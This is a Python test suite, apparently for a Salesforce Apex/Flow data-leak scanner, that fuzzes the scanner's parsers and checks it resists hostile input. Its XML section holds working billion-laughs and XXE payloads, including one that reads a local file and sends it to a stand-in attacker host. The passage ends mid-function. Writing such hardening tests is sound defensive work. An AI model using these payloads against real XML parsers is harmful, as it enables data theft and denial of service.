"""Hostile and broken input: apexscan never crashes, hangs, expands an XML bomb, reads or fetches
what it was not asked to, touches the network or writes anywhere but its report.

apexscan reads repositories it does not trust (pull requests from anyone, vendor packages) and runs
in CI, where a crash is a blocked release. Every test here drives the real pipeline: the per-file
frontends (`lower_apex`, `lower_flow`, `parse_metadata_file`), `discover` + `scan`, or the CLI.

Most projects hold a known leak in files of their own (`LEAK`): whatever else is broken, that
leak must still be reported, which proves the rest of the project was scanned.

Sections: property-based fuzzing of each frontend and of whole scans; XML entity and DTD attacks;
size and shape (huge files, deep nesting, long chains, cycles); the file system; no network and no
stray writes; super-linear inputs (marked `slow`, deselected by default: run `pytest -m slow`).

Known defects are marked `xfail(strict=True)` with the cause in `reason`; when one is fixed its
test passes, strict xfail turns that into a failure, and the marker must be removed.

`APEXSCAN_FUZZ_SCALE=20 python -m pytest tests/test_robustness.py -k fuzz` multiplies the number of
generated examples (the default keeps the whole file fast). Under CI=true generation is derandomized
so that a CI run is reproducible; local runs explore new examples each time.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import threading
from contextlib import contextmanager
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from click.testing import CliRunner
from conftest import write_project
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from apexscan.engine.facts import FileFacts
from apexscan.engine.model import Diagnostic
from apexscan.frontends.apex import lower_apex
from apexscan.frontends.flow import lower_flow
from apexscan.frontends.metadata import MetadataFacts, parse_metadata_file
from apexscan.frontends.parsing import parser_for
from apexscan.interfaces.cli import main
from apexscan.pipeline.project import discover
from apexscan.pipeline.scan import scan
from apexscan.salesforce.policy import load_policy, policy_from_dict

REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "samples" / "fintech-org"
DEFAULT = "force-app/main/default"
SCALE = max(1, int(os.environ.get("APEXSCAN_FUZZ_SCALE", "1")))


def fuzz(examples: int):
    return settings(max_examples=examples * SCALE, deadline=None, database=None,
                    derandomize=os.environ.get("CI") == "true",
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.large_base_example])


# --- a known leak, and how to scan --------------------------------------------------------------

NAMED_CREDENTIAL = """\
<?xml version="1.0" encoding="UTF-8"?>
<NamedCredential xmlns="http://soap.sforce.com/2006/04/metadata">
    <label>Leak OpenAI</label>
    <namedCredentialType>SecuredEndpoint</namedCredentialType>
    <namedCredentialParameters>
        <parameterName>Url</parameterName>
        <parameterType>Url</parameterType>
        <parameterValue>https://api.openai.com</parameterValue>
    </namedCredentialParameters>
</NamedCredential>
"""


def client(name: str) -> str:
    """An LLM client class; its send is on line 7."""
    return f"""\
public with sharing class {name} {{
    public static String complete(String prompt) {{
        HttpRequest req = new HttpRequest();
        req.setEndpoint('callout:Leak_OpenAI/v1/chat/completions');
        req.setMethod('POST');
        req.setBody(JSON.serialize(new Map<String, Object>{{'model' => 'gpt-4o-mini', 'messages' => prompt}}));
        HttpResponse res = new Http().send(req);
        return res.getBody();
    }}
}}
"""


LEAK_SOURCE = """\
public with sharing class LeakSource {
    public static String brief(Id contactId) {
        Contact c = [SELECT Email, Birthdate FROM Contact WHERE Id = :contactId];
        return LeakClient.complete('Write to ' + c.Email + ' born ' + c.Birthdate);
    }
}
"""

LEAK = {
    "namedCredentials/Leak_OpenAI.namedCredential-meta.xml": NAMED_CREDENTIAL,
    "classes/LeakClient.cls": client("LeakClient"),
    "classes/LeakSource.cls": LEAK_SOURCE,
}
LEAK_SINK = (f"{DEFAULT}/classes/LeakClient.cls", 7)
# A policy as a team would write it; the leak above breaks it.
POLICY = {"policy": {"allowed_jurisdictions": ["EU", "EEA"], "allowed_regions": ["EU", "EEA"],
                     "allowed_hosts": ["llm-gateway.bank.eu"], "sanitizers": ["PiiMasker.mask"]},
          "fields": {"sensitive": ["Contact.Email"]}}
# The size and shape cases send through a client of their own, so their leak is told apart.
SHAPE_CLIENT = {"classes/ShapeClient.cls": client("ShapeClient")}
SHAPE_SINK = (f"{DEFAULT}/classes/ShapeClient.cls", 7)


def scan_project(root: Path, policy: dict | None = None, *, strict: bool = False):
    project = discover([root])
    pol = policy_from_dict(policy, "test policy") if policy is not None else load_policy(None, project.root)
    return scan(project, pol, strict=strict)


def leak_found(result, sink: tuple[str, int] = LEAK_SINK) -> bool:
    return any((f.location.path, f.location.line) == sink and f.rule_id == "APX-LLM-001"
               for f in result.findings)


def reported(result, rel: str) -> list[Diagnostic]:
    return [d for d in result.diagnostics if d.path == rel]


def project_at(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    return write_project(root, files)


def fresh_dir() -> tempfile.TemporaryDirectory:
    """A temporary folder per generated example (pytest's tmp_path is one per test)."""
    return tempfile.TemporaryDirectory(prefix="apexscan-robust-")


def invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


# --- what the process does: opened files, writes, sockets (PEP 578 audit events) ----------------

_RECORDING: list | None = None
_HOOKED = False
_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC
_MUTATING = {"os.rename", "os.remove", "os.rmdir", "os.mkdir", "os.chmod", "os.chown", "os.symlink",
             "os.link", "os.truncate", "os.utime", "shutil.copyfile", "shutil.copytree", "shutil.move",
             "shutil.rmtree", "tempfile.mkstemp", "tempfile.mkdtemp"}


def _audit(event: str, args: tuple) -> None:
    if _RECORDING is not None and (event == "open" or event in _MUTATING or event.startswith(
            ("socket.", "subprocess.", "urllib.", "http.", "ftplib.", "os.system", "os.exec", "os.spawn",
             "os.posix_spawn"))):
        _RECORDING.append((event, args))


@contextmanager
def audited():
    """Record the audit events raised inside the block (the hook itself stays, inert, afterwards)."""
    global _RECORDING, _HOOKED
    if not _HOOKED:
        sys.addaudithook(_audit)
        _HOOKED = True
    events: list = []
    _RECORDING = events
    try:
        yield events
    finally:
        _RECORDING = None


def _paths(args: tuple) -> list[str]:
    out = []
    for a in args:
        if isinstance(a, (str, bytes, os.PathLike)):
            try:
                out.append(os.path.abspath(os.fsdecode(a)))
            except (TypeError, ValueError):
                pass
    return out


def opened(events) -> set[str]:
    return {p for e, a in events if e == "open" for p in _paths(a[:1])}


def writes(events) -> list[tuple[str, list[str]]]:
    """File-system changes: opens for writing and every mutating call, bytecode caches aside."""
    out = []
    for event, args in events:
        if event == "open":
            mode, flags = args[1], args[2]
            if not ((isinstance(mode, str) and any(c in mode for c in "wax+"))
                    or (isinstance(flags, int) and flags & _WRITE_FLAGS)):
                continue
            paths = _paths(args[:1])
        elif event in _MUTATING:
            paths = _paths(args)
        else:
            continue
        if paths and all("__pycache__" in p and p.endswith(".pyc") for p in paths):
            continue  # the interpreter caching bytecode for a late import, not apexscan
        out.append((event, paths))
    return out


def network(events) -> list:
    return [(e, a) for e, a in events if e.startswith(("socket.", "urllib.", "http.", "ftplib."))]


@pytest.fixture
def no_network(monkeypatch):
    """Fail the test if anything tries to resolve a name or open a connection."""

    def refuse(*_args, **_kwargs):
        pytest.fail("apexscan tried to use the network", pytrace=True)

    import socket
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "gethostbyname", refuse)


# --- seeds for fuzzing: the sample org's files and a flow that uses every element kind -----------

FLOW_SEED = """\
<?xml version="1.0" encoding="UTF-8"?>
<Flow xmlns="http://soap.sforce.com/2006/04/metadata">
    <actionCalls>
        <name>Summarize</name>
        <label>Summarize</label>
        <actionName>CaseSummarizer</actionName>
        <actionType>apex</actionType>
        <inputParameters>
            <name>prompt</name>
            <value><elementReference>Prompt</elementReference></value>
        </inputParameters>
        <outputParameters>
            <assignToReference>summary</assignToReference>
            <name>result</name>
        </outputParameters>
    </actionCalls>
    <actionCalls>
        <name>Ask_GPT</name>
        <label>Ask GPT</label>
        <actionName>OpenAI_Service.createChatCompletion</actionName>
        <actionType>externalService</actionType>
        <inputParameters>
            <name>body</name>
            <value><elementReference>Question_Text</elementReference></value>
        </inputParameters>
        <storeOutputAutomatically>true</storeOutputAutomatically>
    </actionCalls>
    <apiVersion>62.0</apiVersion>
    <assignments>
        <name>Collect</name>
        <label>Collect</label>
        <assignmentItems>
            <assignToReference>notes</assignToReference>
            <operator>Add</operator>
            <value><elementReference>Get_Contact.Email</elementReference></value>
        </assignmentItems>
        <assignmentItems>
            <assignToReference>greeting</assignToReference>
            <operator>Assign</operator>
            <value><stringValue>Dear {!$Record.Subject}, {!Get_Contact.FirstName}</stringValue></value>
        </assignmentItems>
    </assignments>
    <formulas>
        <name>Question_Text</name>
        <dataType>String</dataType>
        <expression>"Prepare " &amp; {!Get_Contact.FirstName} &amp; " born " &amp; TEXT({!Get_Contact.Birthdate})</expression>
    </formulas>
    <label>Case summary</label>
    <loops>
        <name>Each_Contact</name>
        <label>Each contact</label>
        <collectionReference>contacts</collectionReference>
        <assignNextValueToReference>current</assignNextValueToReference>
        <iterationOrder>Asc</iterationOrder>
    </loops>
    <processType>AutoLaunchedFlow</processType>
    <recordCreates>
        <name>Publish</name>
        <label>Publish</label>
        <object>Consent_Change__e</object>
        <inputAssignments>
            <field>Email__c</field>
            <value><elementReference>Get_Contact.Email</elementReference></value>
        </inputAssignments>
    </recordCreates>
    <recordLookups>
        <name>Get_Contact</name>
        <label>Get Contact</label>
        <object>Contact</object>
        <queriedFields>FirstName</queriedFields>
        <queriedFields>Email</queriedFields>
        <queriedFields>Birthdate</queriedFields>
        <storeOutputAutomatically>true</storeOutputAutomatically>
    </recordLookups>
    <recordLookups>
        <name>Get_Contacts</name>
        <label>Get Contacts</label>
        <object>Contact</object>
        <outputReference>contacts</outputReference>
        <outputAssignments>
            <assignToReference>email</assignToReference>
            <field>Email</field>
        </outputAssignments>
    </recordLookups>
    <screens>
        <name>Review</name>
        <label>Review</label>
        <actions>
            <name>Ask_Again</name>
            <actionName>OpenAI_Service.createChatCompletion</actionName>
            <actionType>externalService</actionType>
            <inputParameters>
                <name>body</name>
                <value><elementReference>greeting</elementReference></value>
            </inputParameters>
        </actions>
    </screens>
    <start>
        <object>Case</object>
        <recordTriggerType>Create</recordTriggerType>
        <triggerType>RecordAfterSave</triggerType>
    </start>
    <status>Active</status>
    <subflows>
        <name>Ask</name>
        <label>Ask</label>
        <flowName>Ask_Assistant</flowName>
        <inputAssignments>
            <name>question</name>
            <value><elementReference>Question_Text</elementReference></value>
        </inputAssignments>
        <outputAssignments>
            <assignToReference>answer</assignToReference>
            <name>answer</name>
        </outputAssignments>
    </subflows>
    <textTemplates>
        <name>Prompt</name>
        <isViewedAsPlainText>true</isViewedAsPlainText>
        <text>Summarise: {!$Record.Subject} / {!$Record.Description} for {!$User.Email} {!$Label.Greeting}</text>
    </textTemplates>
    <variables>
        <name>question</name>
        <dataType>String</dataType>
        <isInput>true</isInput>
        <isOutput>true</isOutput>
    </variables>
</Flow>
"""


def _seeds() -> tuple[tuple[str, bytes], ...]:
    out = []
    for pattern in ("*.cls", "*.trigger", "*.namedCredential-meta.xml", "*.field-meta.xml",
                    "*.labels-meta.xml", "*.object-meta.xml"):
        out.extend((p.relative_to(SAMPLE).as_posix(), p.read_bytes()) for p in sorted(SAMPLE.rglob(pattern)))
    out.append((f"{DEFAULT}/flows/Case_Summary.flow-meta.xml", FLOW_SEED.encode()))
    return tuple(out)


SEEDS = _seeds()


def test_the_seeds_cover_every_frontend():
    suffixes = {rel.rsplit("/", 1)[-1].split(".", 1)[1] for rel, _ in SEEDS}
    assert {"cls", "trigger", "flow-meta.xml", "namedCredential-meta.xml", "field-meta.xml",
            "labels-meta.xml"} <= suffixes


def lower(rel: str, data: bytes) -> tuple[Diagnostic, ...]:
    """Run the frontend `scan` uses for `rel`; return its diagnostics, checked for shape."""
    if rel.endswith((".cls", ".trigger")):
        facts = lower_apex(rel, data)
        assert isinstance(facts, FileFacts)
        diags = facts.diagnostics
    elif rel.endswith(".flow-meta.xml"):
        facts = lower_flow(rel, data)
        assert isinstance(facts, FileFacts)
        diags = facts.diagnostics
    else:
        facts, diags = parse_metadata_file(rel, data)
        assert isinstance(facts, MetadataFacts)
    assert all(isinstance(d, Diagnostic) and d.path == rel for d in diags)
    return diags


def must_break(rel: str, data: bytes) -> tuple[int, int]:
    """Cut points [lo, hi] for which `data[:cut]` is certainly broken: an Apex prefix that has the
    opening brace of the class (or trigger) body but not its closing one, an XML prefix without the
    final `>`. (A prefix ending after a leading doc comment is a valid, empty file.)"""
    if rel.endswith((".cls", ".trigger")):
        declaration = next(c for c in parser_for("apex").parse(data).root_node.named_children
                           if c.type.endswith("_declaration"))
        body = declaration.child_by_field_name("body")
        return body.start_byte + 1, body.end_byte - 1
    return 0, data.rindex(b">")


@st.composite
def mutated(draw, content: bytes) -> bytes:
    """`content` with a few random edits: flipped, inserted, deleted or duplicated bytes."""
    out = bytearray(content)
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, max(0, len(out) - 1)))
        op = draw(st.sampled_from(["flip", "insert", "delete", "duplicate", "swap_in"]))
        if op == "flip" and out:
            out[at] = draw(st.integers(0, 255))
        elif op == "insert":
            out[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif op == "delete":
            del out[at:at + draw(st.integers(1, 64))]
        elif op == "duplicate":
            out[at:at] = out[draw(st.integers(0, max(0, len(out) - 1))):][: draw(st.integers(1, 200))]
        else:  # a markup-significant byte where it hurts most
            out[at:at] = draw(st.sampled_from([b"<", b">", b"&", b"{", b"}", b"(", b"'", b'"', b"\x00",
                                               b"\xff", b"\xef\xbb\xbf", b"<!DOCTYPE x>", b"/*", b"\\"]))
    return bytes(out)


# --- 1. fuzzing: each frontend, then whole scans --------------------------------------------------

FRONTEND_PATHS = [
    f"{DEFAULT}/classes/Fuzz.cls",
    f"{DEFAULT}/triggers/Fuzz.trigger",
    f"{DEFAULT}/flows/Fuzz.flow-meta.xml",
    f"{DEFAULT}/namedCredentials/Fuzz.namedCredential-meta.xml",
    f"{DEFAULT}/objects/Contact/fields/Fuzz__c.field-meta.xml",
    f"{DEFAULT}/labels/CustomLabels.labels-meta.xml",
]
ARBITRARY = st.one_of(
    st.binary(max_size=2048),
    st.text(max_size=512).map(lambda s: s.encode("utf-8", "surrogatepass")),
    st.tuples(st.sampled_from([b"public class F {", b"trigger F on Account (after insert) {",
                               b'<?xml version="1.0"?><Flow>', b"<NamedCredential><endpoint>",
                               b'<?xml version="1.0" encoding="UTF-16"?>', b"\xef\xbb\xbf", b"\xff\xfe"]),
              st.binary(max_size=512)).map(b"".join),
)


@pytest.mark.parametrize("rel", FRONTEND_PATHS, ids=lambda r: r.rsplit("/", 1)[-1])
@fuzz(50)
@given(data=ARBITRARY)
@example(data=b"")
@example(data=b"\x00" * 64)
@example(data=b"\xef\xbb\xbf")
@example(data=b"\xff\xfe\x00<")
def test_fuzz_frontends_never_raise_on_arbitrary_bytes(rel, data):
    lower(rel, data)


@fuzz(150)
@given(seed=st.sampled_from(SEEDS), data=st.data())
def test_fuzz_truncated_sample_files_are_reported_never_raised(seed, data):
    rel, content = seed
    lo, hi = must_break(rel, content)
    cut = data.draw(st.one_of(st.integers(lo, hi), st.integers(0, len(content))), label="cut")
    diags = lower(rel, content[:cut])
    if lo <= cut <= hi:
        assert diags, f"{rel} cut at byte {cut} was taken without a diagnostic"


@fuzz(150)
@given(seed=st.sampled_from(SEEDS), data=st.data())
def test_fuzz_mutated_sample_files_never_raise(seed, data):
    rel, content = seed
    lower(rel, data.draw(mutated(content), label="mutated"))


APEX_TOKENS = [
    "public", "private", "static", "class", "interface", "enum", "trigger", "on", "Account", "(", ")",
    "{", "}", "[", "]", ";", ",", ".", "=", "+", "+=", "-", "?", ":", "!", "&&", "==", "=>", "<", ">",
    "String", "Object", "Map<String, Object>", "List<Account>", "Set<Id>", "x", "y", "req", "res",
    "'text'", "'callout:Leak_OpenAI/v1'", "'https://api.openai.com/v1/chat'", "1", "null", "true",
    "new", "Http", "HttpRequest", "send", "setEndpoint", "setBody", "JSON.serialize", "return", "if",
    "else", "for", "while", "do", "try", "catch", "finally", "throw", "Exception", "e", "this", "super",
    "extends", "implements", "void", "get", "set", "insert", "update", "switch", "when", "Trigger.new",
    "[SELECT Name, Email FROM Contact]", "[FIND 'x' RETURNING Account(Name)]", "Database.query",
    "EventBus.publish", "System.enqueueJob", "Database.executeBatch", "@AuraEnabled", "@future",
    "@InvocableMethod", "@IsTest", "LeakClient.complete", "/* c */", "// c\n", "\n", "'", "/*",
]


@fuzz(150)
@given(tokens=st.lists(st.sampled_from(APEX_TOKENS), max_size=150),
       header=st.sampled_from(["", "public class Soup {\n", "public class Soup {\n void m(Account a) {\n",
                               "trigger Soup on Contact (after insert) {\n"]))
def test_fuzz_apex_token_soup_never_raises(tokens, header):
    lower(f"{DEFAULT}/classes/Soup.cls", (header + " ".join(tokens)).encode())


FLOW_TAGS = ["actionCalls", "actionName", "actionType", "apex", "assignments", "assignmentItems",
             "assignToReference", "collectionReference", "elementReference", "expression", "field",
             "flowName", "formulas", "inputAssignments", "inputParameters", "isInput", "isOutput",
             "loops", "name", "object", "operator", "outputAssignments", "outputParameters",
             "outputReference", "queriedFields", "recordCreates", "recordLookups", "screens", "actions",
             "start", "storeOutputAutomatically", "stringValue", "subflows", "text", "textTemplates",
             "triggerType", "value", "variables", "objectType", "dataType", "assignNextValueToReference"]
METADATA_TAGS = ["label", "endpoint", "namedCredentialParameters", "parameterType", "parameterValue",
                 "parameterName", "externalCredential", "fullName", "type", "securityClassification",
                 "complianceGroup", "encryptionScheme", "labels", "value", "language", "protected",
                 "url", "isActive", "values", "field", "referenceTo", "length", "description"]
XML_TEXT = st.one_of(
    st.sampled_from(["{!$Record.Email}", "$Record.Email", "Get_Contact.Email", "{!Get_Contact.FirstName",
                     "true", "false", "apex", "externalService", "flow", "Add", "Contact", "Case",
                     "Consent_Change__e", "RecordAfterSave", "PlatformEvent", "Url", "Confidential", "PII;GDPR",
                     "https://api.openai.com", "callout:Leak_OpenAI", "LeakClient", "Get_Contact", "$User",
                     "OpenAI_Service.createChatCompletion", "a::b::c", "..", "$", ""]),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=20),
)


def xml_soup(root: str, tags: list[str]):
    leaf = st.builds(lambda t, s: f"<{t}>{escape(s)}</{t}>", st.sampled_from(tags), XML_TEXT)
    tree = st.recursive(leaf, lambda kids: st.builds(lambda t, ks: f"<{t}>{''.join(ks)}</{t}>",
                                                      st.sampled_from(tags), st.lists(kids, max_size=4)),
                        max_leaves=40)
    return st.lists(tree, max_size=12).map(
        lambda kids: f'<?xml version="1.0" encoding="UTF-8"?>\n<{root} xmlns="http://soap.sforce.com/2006/04/metadata">'
                     f'{"".join(kids)}</{root}>\n'.encode())


@fuzz(80)
@given(document=xml_soup("Flow", FLOW_TAGS))
def test_fuzz_flow_element_soup_never_raises(document):
    lower(f"{DEFAULT}/flows/Soup.flow-meta.xml", document)


@pytest.mark.parametrize("rel,root", [
    (f"{DEFAULT}/namedCredentials/Soup.namedCredential-meta.xml", "NamedCredential"),
    (f"{DEFAULT}/objects/Contact/fields/Soup__c.field-meta.xml", "CustomField"),
    (f"{DEFAULT}/labels/CustomLabels.labels-meta.xml", "CustomLabels"),
    (f"{DEFAULT}/objects/Soup__c/Soup__c.object-meta.xml", "CustomObject"),
], ids=["named-credential", "field", "labels", "object"])
@fuzz(25)
@given(data=st.data())
def test_fuzz_metadata_element_soup_never_raises(rel, root, data):
    lower(rel, data.draw(xml_soup(root, METADATA_TAGS)))


BROKEN = st.sampled_from(SEEDS).flatmap(lambda seed: st.tuples(
    st.just(seed[0]),
    st.one_of(
        # certainly broken: truncated before the end, or binary
        st.integers(*must_break(*seed)).map(lambda cut, c=seed[1]: (c[:cut], True)),
        st.binary(max_size=256).map(lambda b: (b"\x00" + b, True)),
        # perhaps still valid: mutated, or arbitrary bytes
        mutated(seed[1]).map(lambda b: (b, False)),
        ARBITRARY.map(lambda b: (b, False)),
    )))


@fuzz(40)
@given(case=BROKEN)
def test_fuzz_one_broken_file_never_stops_the_scan(case):
    rel, (content, certainly_broken) = case
    with fresh_dir() as tmp:
        root = project_at(Path(tmp), {**LEAK, "/" + rel: content})
        result = scan_project(root, POLICY)
    assert leak_found(result), "the rest of the project was not scanned"
    if certainly_broken:
        assert reported(result, rel), f"{rel} is broken but no diagnostic names it"


@fuzz(25)
@given(flow=xml_soup("Flow", FLOW_TAGS), tokens=st.lists(st.sampled_from(APEX_TOKENS), max_size=120))
def test_fuzz_scan_of_generated_flow_and_apex_never_raises(flow, tokens):
    with fresh_dir() as tmp:
        root = project_at(Path(tmp), {
            **LEAK,
            "flows/Soup.flow-meta.xml": flow,
            "classes/Soup.cls": ("public class Soup {\n void m(Contact c) {\n" + " ".join(tokens)).encode(),
        })
        result = scan_project(root, POLICY)
    assert leak_found(result)


def test_cli_reports_each_broken_file_and_still_the_leak(tmp_path):
    broken = {
        "classes/Binary.cls": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        "triggers/Cut.trigger": b"trigger Cut on Contact (after insert) {\n    for (Contact c : Trigger.new) {\n",
        "flows/Cut.flow-meta.xml": FLOW_SEED.encode()[:700],
        "namedCredentials/Bomb.namedCredential-meta.xml":
            b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "aaaa">]>\n<NamedCredential>&a;</NamedCredential>',
        "objects/Contact/fields/Latin__c.field-meta.xml":
            "<CustomField><label>Caf\u00e9</label></CustomField>".encode("latin-1"),
        "labels/CustomLabels.labels-meta.xml": b"<CustomLabels><labels><fullName>A</fullName>",
    }
    root = project_at(tmp_path / "p", {**LEAK, **broken})
    rels = {f"{DEFAULT}/{rel}" for rel in broken}

    text = invoke("scan", str(root))
    assert text.exit_code == 1
    assert f"{LEAK_SINK[0]}:{LEAK_SINK[1]}:" in text.stdout
    # what was skipped is an APX-SCAN-001 finding on standard output, the rest a diagnostic on stderr
    skipped = {f"{DEFAULT}/{rel}" for rel in ("classes/Binary.cls", "flows/Cut.flow-meta.xml",
                                               "namedCredentials/Bomb.namedCredential-meta.xml",
                                               "objects/Contact/fields/Latin__c.field-meta.xml",
                                               "labels/CustomLabels.labels-meta.xml")}
    scan_findings = {line.split(":", 1)[0] for line in text.stdout.splitlines() if "[APX-SCAN-001]" in line}
    assert scan_findings == skipped | {f"{DEFAULT}/triggers/Cut.trigger"}  # partly analysed: a warning
    assert scan_findings == rels and not any(rel in text.stderr for rel in rels)  # said once, as a finding

    sarif = json.loads(invoke("scan", str(root), "--format", "sarif").stdout)
    notified = {loc["physicalLocation"]["artifactLocation"]["uri"]
                for n in sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"]
                for loc in n.get("locations", [])}
    assert rels <= notified
    assert any(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == LEAK_SINK[0]
               for r in sarif["runs"][0]["results"])

    doc = json.loads(invoke("scan", str(root), "--format", "json").stdout)
    assert rels <= {d["path"] for d in doc["diagnostics"]}


TOML_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12) |
    st.sampled_from(["EU", "US", "*.bank.eu", "PiiMasker.mask", "Contact.Email", "", " ", "caf\u00e9.eu", "a..b"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["allowed_jurisdictions", "allowed_regions", "allowed_hosts", "sanitizers",
                         "residency_guards", "trust_salesforce_ai", "sensitive", "non_sensitive", "typo"]),
        inner, max_size=4),
    max_leaves=12)


@fuzz(100)
@given(document=st.dictionaries(st.sampled_from(["policy", "fields", "other"]), TOML_VALUES, max_size=3))
def test_fuzz_policy_documents_are_accepted_or_refused_with_a_policy_error(document):
    from apexscan.salesforce.policy import Policy, PolicyError

    try:
        assert isinstance(policy_from_dict(document, "fuzzed policy"), Policy)
    except PolicyError as exc:
        assert "fuzzed policy" in str(exc)


@fuzz(30)
@given(content=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode)))
def test_fuzz_broken_apexscan_toml_is_a_usage_error_not_a_crash(content):
    with fresh_dir() as tmp:
        root = project_at(Path(tmp), LEAK)
        (root / "apexscan.toml").write_bytes(content)
        r = CliRunner().invoke(main, ["scan", str(root), "--format", "json"])
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    assert r.exit_code in (0, 1, 2)  # findings or not under the policy read, or a bad policy file


# --- 2. XML: entity expansion, external entities, DTDs --------------------------------------------

MARKER = "APEXSCAN-SECRET-4f1c9e"


@pytest.fixture(scope="module")
def secret(tmp_path_factory) -> Path:
    """A local file outside every scanned project; its content must never surface anywhere."""
    path = tmp_path_factory.mktemp("outside") / "secret.txt"
    path.write_text(MARKER + "\n", encoding="utf-8")
    return path


# Each hostile file is one of these kinds; {ref} is where the entity is used.
XML_KINDS = {
    "named-credential": ("namedCredentials/Evil.namedCredential-meta.xml", "NamedCredential", """
        <label>Evil</label>
        <namedCredentialParameters>
            <parameterName>Url</parameterName>
            <parameterType>Url</parameterType>
            <parameterValue>https://{ref}.example.com/v1</parameterValue>
        </namedCredentialParameters>"""),
    "field": ("objects/Contact/fields/Evil__c.field-meta.xml", "CustomField", """
        <fullName>Evil__c</fullName>
        <label>{ref}</label>
        <description>{ref}</description>
        <securityClassification>Public</securityClassification>
        <type>Text</type>
        <length>255</length>"""),
    "flow": ("flows/Evil.flow-meta.xml", "Flow", """
        <apiVersion>62.0</apiVersion>
        <label>Evil</label>
        <processType>AutoLaunchedFlow</processType>
        <textTemplates>
            <name>Prompt</name>
            <text>{ref}</text>
        </textTemplates>"""),
}
ATTACKER = "http://attacker.example.test"


def _doc(root: str, body: str, doctype: str, ref: str,
         declaration: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return (f"{declaration}\n{doctype}\n<{root} xmlns=\"http://soap.sforce.com/2006/04/metadata\">"
            f"{body.format(ref=ref)}\n</{root}>\n")


def _billion_laughs(root: str) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE {root} [\n {chr(10).join(levels)}\n]>"


# payload name -> (root, body, secret path) -> document bytes
XML_ATTACKS = {
    "billion-laughs": lambda root, body, secret: _doc(root, body, _billion_laughs(root), "&lol9;").encode(),
    "quadratic-blowup": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY a "{"A" * 100_000}">]>', "&a;" * 10_000).encode(),
    "xxe-local-file": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;").encode(),
    "xxe-plain-path": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{secret}">]>', "&xxe;").encode(),
    "xxe-url": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{ATTACKER}/steal">]>', "&xxe;").encode(),
    "parameter-entity-file": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', "x").encode(),
    "parameter-entity-url": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{ATTACKER}/p.dtd"> %p;]>', "x").encode(),
    "out-of-band-exfiltration": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY % file SYSTEM "file://{secret}">'
                    f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{ATTACKER}/?d=%file;\'>">'
                    f"%eval; %exfil;]>", "x").encode(),
    "external-dtd-url": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} SYSTEM "{ATTACKER}/evil.dtd">', "x").encode(),
    "external-dtd-file": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} SYSTEM "file://{secret}">', "x").encode(),
    "public-dtd": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} PUBLIC "-//Evil//DTD//EN" "{ATTACKER}/evil.dtd">', "x").encode(),
    "billion-laughs-utf16": lambda root, body, secret: _doc(
        root, body, _billion_laughs(root), "&lol9;", '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"),
    "xxe-utf7": lambda root, body, secret: _doc(
        root, body, f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;",
        '<?xml version="1.0" encoding="UTF-7"?>').encode("utf-7"),
}

# Code that would carry the expanded text into a finding: it sends through the hostile credential.
EVIL_USER = {"classes/EvilUser.cls": """\
public with sharing class EvilUser {
    public static void send(Id contactId) {
        Contact c = [SELECT Email FROM Contact WHERE Id = :contactId];
        HttpRequest req = new HttpRequest();
        req.setEndpoint('callout:Evil/v1/chat/completions');
        req.setBody(JSON.serialize(new Map<String, Object>{'model' => 'gpt-4o', 'messages' => c.Email + c.Evil__c}));
        new Http().send(req);
    }
}
"""}


def _hostile_project(root: Path, secret: Path, kinds, attacks) -> dict[str, str]:
    """Write LEAK plus one hostile file per (kind, attack); return {project-relative path: attack}.
    With a single file it is the `Evil` credential / field / flow that EvilUser uses."""
    files, made = {**LEAK, **EVIL_USER}, {}
    single = len(kinds) * len(attacks) == 1
    for kind in kinds:
        rel, xml_root, body = XML_KINDS[kind]
        for attack in attacks:
            path = rel if single else rel.replace("Evil", "Evil_" + attack.replace("-", "_"))
            files[path] = XML_ATTACKS[attack](xml_root, body, secret)
